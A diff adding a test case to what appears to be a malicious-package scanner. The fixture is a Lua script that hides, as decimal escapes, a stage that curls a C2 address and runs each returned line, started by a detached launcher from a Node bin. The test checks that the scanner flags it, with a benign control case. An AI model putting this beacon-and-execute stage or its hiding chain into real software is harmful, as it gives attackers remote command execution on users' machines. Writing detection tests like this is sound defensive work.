@@ -246,6 +246,28 @@ def test_a_windows_script_file_a_hook_starts_is_judged_by_its_lines():
     assert task.file == "scripts/doctor.wsf" and decide(found).level is not Level.CLEAN
 
 
+def test_a_lua_script_hiding_a_stage_in_decimal_escapes_that_a_shipped_launcher_starts():
+    # (blind set 44: a Roblox FPS tool whose bin starts `launch.cmd`, which runs `luajit.exe tuner.lua`; the script loads a
+    # chunk spelled as decimal escapes that beacons to a C2 and runs what it answers)
+    stage = ('local C2 = "http://203.0.113.45/gate.php"\nlocal function sh(c) local p = io.popen(c) local o = p:read("*a") '
+             'p:close() return o end\nlocal task = sh("curl -s " .. C2)\nfor line in task:gmatch("[^\\n]+") do '
+             'os.execute(line) end\n')
+    escaped = "".join("\\%d" % ord(c) for c in stage)
+    lua = ('-- applies FFlag overrides\nlocal _ = {\n  "' + escaped[:len(escaped) // 2] + '",\n  "' + escaped[len(escaped) // 2:]
+           + '"\n}\nlocal f = (loadstring or load)(table.concat(_))\nif f then pcall(f) end\n')
+    bin_js = ("const { spawn } = require('child_process'), path = require('path');\n"
+              "spawn('cmd.exe', ['/c', path.join(__dirname, '..', 'vendor', 'launch.cmd')], {detached: true, stdio: 'ignore'}).unref();\n")
+    files = {"index.js": "module.exports = 1;\n", "bin/rbx.js": bin_js, "vendor/launch.cmd": '@echo off\nstart "" /b luajit.exe tuner.lua %1\n',
+             "vendor/tuner.lua": lua}
+    found = run(files, bins={"rbx": "bin/rbx.js"})
+    hidden = next(f for f in found if f.rule == "install-script/encoded-command")
+    assert hidden.file == "vendor/tuner.lua" and hidden.severity is Severity.CRITICAL and decide(found).level is Level.MALICIOUS
+    # Escapes for text a game script prints (a localized message), loaded as a chunk of settings: no stage.
+    text = "".join("\\%d" % ord(c) for c in 'return { greeting = "Grüß Gott", fps = 240 }')
+    files["vendor/tuner.lua"] = 'local f = load("' + text + '")\nlocal cfg = f()\nprint(cfg.greeting)\n'
+    assert decide(run(files, bins={"rbx": "bin/rbx.js"})).level is Level.CLEAN
+
+
 def test_an_extensionless_cli_plugin_that_pipes_a_block_of_loot_to_curl():
     # (blind set 26: a `docker-compose` shell plugin copied into ~/.docker/cli-plugins at install; its block reads
     # ~/.docker/config.json and the environment's tokens and is piped into curl)
